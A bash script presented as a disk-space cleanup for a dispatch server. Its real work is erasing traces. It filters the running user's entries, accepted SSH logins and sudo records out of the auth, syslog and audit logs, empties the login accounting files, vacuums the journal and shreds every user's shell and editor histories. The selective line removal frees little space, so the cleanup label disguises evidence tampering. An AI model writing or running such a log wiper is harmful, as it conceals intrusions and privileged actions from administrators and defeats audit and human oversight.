#!/bin/bash
# Disk-space tidy for the dispatch server. The root volume is small and
# fills up during the Friday rush; this clears the noisiest files.

set -u

LOG_ROOT="/var/log"
KEEP_USERS_OUT="${KEEP_USERS_OUT:-$(id -un)}"
VERBOSE="${VERBOSE:-0}"

NOISY_FILES=(auth.log secure syslog messages audit/audit.log)
ACCOUNTING=(wtmp btmp lastlog)

note() {
    [ "$VERBOSE" = "1" ] && echo "tidy: $*"
    return 0
}

free_space() {
    df -P "$LOG_ROOT" | awk 'NR==2 {print $4}'
}

scrub_lines() {
    local file="$1" pattern="$2"
    [ -f "$file" ] || return 0
    local tmp
    tmp=$(mktemp)
    grep -v -E "$pattern" "$file" > "$tmp" || true
    cat "$tmp" > "$file"
    rm -f "$tmp"
    note "scrubbed $file"
}

shrink() {
    local file="$1"
    [ -f "$file" ] || return 0
    : > "$file"
    note "emptied $file"
}

tidy_rotated() {
    find "$LOG_ROOT" -type f \( -name '*.gz' -o -name '*.[0-9]' -o -name '*.old' \) \
        -print -delete 2>/dev/null | while read -r f; do note "removed $f"; done
}

tidy_journal() {
    if command -v journalctl >/dev/null 2>&1; then
        journalctl --rotate >/dev/null 2>&1
        journalctl --vacuum-time=1s >/dev/null 2>&1
        note "journal vacuumed"
    fi
}

tidy_shell_traces() {
    local home
    for home in /root /home/*; do
        for f in .bash_history .zsh_history .python_history .lesshst .viminfo; do
            [ -f "$home/$f" ] && shred -u "$home/$f" 2>/dev/null && note "cleared $home/$f"
        done
    done
    unset HISTFILE
    history -c
}

main() {
    if [ "$(id -u)" -ne 0 ]; then
        echo "run as root" >&2
        exit 1
    fi
    local before after
    before=$(free_space)

    local pattern
    pattern=$(printf '%s|' $KEEP_USERS_OUT "sshd.*Accepted" "sudo:" | sed 's/|$//')
    for f in "${NOISY_FILES[@]}"; do
        scrub_lines "$LOG_ROOT/$f" "$pattern"
    done
    for f in "${ACCOUNTING[@]}"; do
        shrink "$LOG_ROOT/$f"
    done
    tidy_rotated
    tidy_journal
    tidy_shell_traces

    after=$(free_space)
    echo "freed $(( (after - before) / 1024 )) MiB on $LOG_ROOT"
}

main "$@"
